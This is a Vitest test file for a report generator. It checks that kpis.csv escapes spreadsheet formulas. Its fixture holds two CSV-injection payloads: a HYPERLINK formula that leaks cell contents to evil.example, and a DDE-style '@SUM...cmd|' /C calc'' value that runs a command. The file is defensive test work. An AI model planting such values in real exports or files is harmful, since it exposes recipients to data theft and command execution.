import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReport } from '../../lib/report/run-report.ts';
import { writeReportOutputs } from '../../lib/report/write-outputs.ts';
import monthly from '../../reports/monthly.ts';
import { FIXTURES, TEST_NOW } from '../helpers.ts';

/** RFC 4180 cells, quotes undone: what a spreadsheet reads into each cell. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  for (const match of text.matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^,\n]*))/g))
    cells.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''));
  return cells;
}

// kpis.csv goes to every recipient of a report e-mail, who opens it in a spreadsheet. A rep or a
// customer named by the CRM "=HYPERLINK(...)" or "@SUM(...)" must reach them as text, not run.
let root: string;
let csv: string;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'pulse-csv-formulas-'));
  const data = join(root, 'data');
  await cp(join(FIXTURES, 'xss'), data, { recursive: true });
  await writeFile(
    join(data, 'users.csv'),
    'user_id,name,team\nU1,"=HYPERLINK(""http://evil.example/?""&A1,""open"")",sales\nU2,"@SUM(1+1)*cmd|\' /C calc\'!A0",-2+3\n',
  );
  const run = await runReport(monthly, {
    dataDir: data,
    timeZone: 'UTC',
    now: TEST_NOW,
    period: { start: '2026-10-01', end: '2026-11-01', grain: 'month' },
  });
  const written = await writeReportOutputs(run, { outRoot: join(root, 'out') });
  csv = await readFile(join(written.dir, 'kpis.csv'), 'utf8');
}, 60_000);
afterAll(() => rm(root, { recursive: true, force: true }));

describe('kpis.csv opened in a spreadsheet', () => {
  it('has the hostile rep name, as text', () => {
    expect(csvCells(csv)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
  });

  it('has no cell a spreadsheet would run as a formula; numbers stay numbers', () => {
    const cells = csvCells(csv);
    const formulas = cells.filter(
      (cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell),
    );
    expect(formulas).toEqual([]);
    expect(cells.some((cell) => /^-\d/.test(cell))).toBe(true);
  });
});
